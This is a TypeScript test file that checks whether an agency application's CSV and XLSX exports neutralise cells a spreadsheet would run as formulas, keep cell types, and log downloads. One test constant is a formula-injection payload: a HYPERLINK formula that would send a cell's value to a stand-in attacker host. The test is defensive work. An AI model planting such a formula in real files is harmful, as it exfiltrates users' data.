/**
 * What a person opens from an export (issue 26, §1): no cell a spreadsheet would run as a formula,
 * and an XLSX beside each CSV whose cells keep their type (postcode and phone as text, amounts as
 * numbers, days as dates), over HTTP against the real database.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accessLog } from '../src/db/schema';
import { createAgencyWithBoss, createClient, createHistoryEntry, createProperty } from './factories';
import { signedInClient } from './helpers/actors';
import { mandateBody } from './helpers/mandate-fixtures';
import { startTestApp, type TestApp } from './helpers/test-app';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(() => t.close());

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"clic")';
const FORMULA_START = /^[=+\-@\t\r]/;

/** The CSV's cells by header, one object per line. */
function csvRecords(bytes: Uint8Array | undefined): Record<string, string>[] {
  expect(bytes, 'file missing from the archive').toBeDefined();
  return parse(Buffer.from(bytes!), { delimiter: ';', bom: true, columns: true });
}

/** Every cell of a CSV: none may start like a formula. */
function formulaCells(bytes: Uint8Array): string[] {
  const rows: string[][] = parse(Buffer.from(bytes), { delimiter: ';', bom: true });
  return rows.flat().filter((cell) => FORMULA_START.test(cell));
}

async function sheetOf(bytes: Uint8Array | undefined) {
  expect(bytes, 'file missing from the archive').toBeDefined();
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes!) as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const headers = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
  // No formula anywhere in the file, whatever the cells say.
  const xml = strFromU8(unzipSync(new Uint8Array(bytes!))['xl/worksheets/sheet1.xml']!);
  expect(xml).not.toContain('<f>');
  const cell = (row: number, header: string) => sheet.getRow(row).getCell(headers.indexOf(header) + 1);
  return {
    cell,
    /** The line whose `id` column holds this id. */
    lineOf: (id: string) => {
      for (let row = 2; row <= sheet.rowCount; row++) if (cell(row, 'id').value === id) return row;
      throw new Error(`no line for ${id}`);
    },
  };
}

describe('a client’s export, opened by a person', () => {
  it('neutralises a name and a description that are formulas, and types the XLSX cells', async () => {
    const { agency, boss } = await createAgencyWithBoss(t.db, { subscription: 'pro' });
    const head = await signedInClient(t, boss.user.id);
    const property = await createProperty(t.db, agency.id, { type: 'Vente' });
    const client = await createClient(t.db, agency.id, {
      fullName: '=1+1 Zéro',
      firstName: 'Zéro',
      phone: '0612345678',
    });
    await createHistoryEntry(t.db, property, {
      clientId: client.id,
      description: HYPERLINK,
      date: '2026-03-09',
    });

    const res = await head.get(`/api/clients/${client.id}/export`);
    expect(res.status).toBe(200);
    const entries = unzipSync(new Uint8Array(res.raw));
    for (const base of ['client', 'documents', 'historique']) {
      expect(Object.keys(entries)).toContain(`${base}.csv`);
      expect(Object.keys(entries)).toContain(`${base}.xlsx`);
      expect(formulaCells(entries[`${base}.csv`]!)).toEqual([]);
    }
    const [record] = csvRecords(entries['client.csv']);
    expect(record).toMatchObject({ fullName: "'=1+1 Zéro", phone: '0612345678' });
    expect(csvRecords(entries['historique.csv'])[0]?.description).toBe(`'${HYPERLINK}`);

    const sheet = await sheetOf(entries['client.xlsx']);
    expect(sheet.cell(2, 'fullName').value).toBe('=1+1 Zéro');
    expect(sheet.cell(2, 'fullName').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.cell(2, 'phone').value).toBe('0612345678');
    expect(sheet.cell(2, 'phone').numFmt).toBe('@');
    expect(sheet.cell(2, 'createdAt').value).toBeInstanceOf(Date);
    const history = await sheetOf(entries['historique.xlsx']);
    expect(history.cell(2, 'description').value).toBe(HYPERLINK);
    expect(history.cell(2, 'date').value).toEqual(new Date(Date.UTC(2026, 2, 9)));
  });
});

describe('the agency export, opened by a person', () => {
  it('neutralises every CSV, and its XLSX keep postcode 01000, the phone’s 0 and the price as a number', async () => {
    const { agency, boss } = await createAgencyWithBoss(t.db, { subscription: 'pro' });
    const head = await signedInClient(t, boss.user.id);
    const property = await createProperty(t.db, agency.id, {
      type: 'Vente',
      zip: '01000',
      city: 'Bourg-en-Bresse',
      price: 245000.5,
      description: HYPERLINK,
    });
    const client = await createClient(t.db, agency.id, { fullName: '=1+1 Zéro', phone: '0612345678' });
    await createHistoryEntry(t.db, property, {
      clientId: client.id,
      clientName: '@Zéro',
      description: '-1+1',
    });
    expect(
      (await head.post('/api/mandates', await mandateBody(t.db, agency.id, { feeTerms: '+5 % TTC' }))).status,
    ).toBe(201);

    expect((await head.post('/api/agency/export')).status).toBe(202);
    await t.deps.jobs.runUntilIdle();
    const { latest } = (await head.get('/api/agency/export')).body;
    expect(latest.status).toBe('ready');
    const zip = await head.get(`/api/agency/export/${latest.id}/download`);
    const entries = unzipSync(new Uint8Array(zip.raw));
    const names = Object.keys(entries);
    for (const base of ['biens', 'clients', 'historique', 'mandats', 'fichiers']) {
      expect(names).toContain(`${base}.xlsx`);
    }
    const csvFiles = names.filter((n) => n.endsWith('.csv'));
    expect(csvFiles.length).toBeGreaterThanOrEqual(7);
    for (const name of csvFiles) expect(formulaCells(entries[name]!), name).toEqual([]);
    expect(names.filter((n) => /^registres\/registre-mandats-.*\.xlsx$/.test(n))).toHaveLength(2);

    const listed = csvRecords(entries['biens.csv']).find((p) => p.id === property.id);
    expect(listed).toMatchObject({ description: `'${HYPERLINK}`, zip: '01000', price: '245000.5' });
    const listedClient = csvRecords(entries['clients.csv']).find((c) => c.id === client.id);
    expect(listedClient?.fullName).toBe("'=1+1 Zéro");

    const biens = await sheetOf(entries['biens.xlsx']);
    const line = biens.lineOf(property.id);
    expect(biens.cell(line, 'zip').value).toBe('01000');
    expect(biens.cell(line, 'zip').numFmt).toBe('@');
    expect(biens.cell(line, 'price').value).toBe(245000.5);
    expect(biens.cell(line, 'description').value).toBe(HYPERLINK);
    expect(biens.cell(line, 'createdAt').value).toBeInstanceOf(Date);
    const clients = await sheetOf(entries['clients.xlsx']);
    expect(clients.cell(clients.lineOf(client.id), 'phone').value).toBe('0612345678');
    const mandats = await sheetOf(entries['mandats.xlsx']);
    expect(mandats.cell(2, 'number').value).toBe(1);
    expect(mandats.cell(2, 'startDate').value).toEqual(new Date(Date.UTC(2026, 10, 2)));
    expect(mandats.cell(2, 'feeTerms').value).toBe('+5 % TTC');
  });
});

describe('the mandates register, opened by a person', () => {
  it('as CSV: a formula in the fee terms is neutralised; as XLSX: numbers, dates and text typed', async () => {
    const { agency, boss } = await createAgencyWithBoss(t.db, { subscription: 'pro' });
    const head = await signedInClient(t, boss.user.id);
    const body = await mandateBody(t.db, agency.id, { feeTerms: '=1+1 à la charge de l’acquéreur' });
    expect((await head.post('/api/mandates', body)).status).toBe(201);

    const csv = await head.get('/api/mandates/export/csv?activity=transaction');
    expect(csv.status).toBe(200);
    expect(formulaCells(new Uint8Array(csv.raw))).toEqual([]);
    expect(csvRecords(new Uint8Array(csv.raw))[0]?.Rémunération).toBe("'=1+1 à la charge de l’acquéreur");

    const xlsx = await head.get('/api/mandates/export/xlsx?activity=transaction');
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(xlsx.headers.get('content-disposition')).toMatch(
      /registre-mandats-transaction-\d{4}-\d{2}-\d{2}\.xlsx/,
    );
    const sheet = await sheetOf(new Uint8Array(xlsx.raw));
    expect(sheet.cell(2, 'N°').value).toBe(1);
    expect(sheet.cell(2, 'Date de début').value).toEqual(new Date(Date.UTC(2026, 10, 2)));
    expect(sheet.cell(2, 'Durée (mois)').value).toBe(3);
    expect(sheet.cell(2, 'Rémunération').value).toBe('=1+1 à la charge de l’acquéreur');
    // Each download of the register is in the access log, the XLSX as the others.
    const logged = await t.db.select().from(accessLog).where(eq(accessLog.agencyId, agency.id));
    expect(logged.map((row) => [row.kind, row.detail]).sort()).toEqual([
      ['register_export', 'transaction csv'],
      ['register_export', 'transaction xlsx'],
    ]);
  });
});
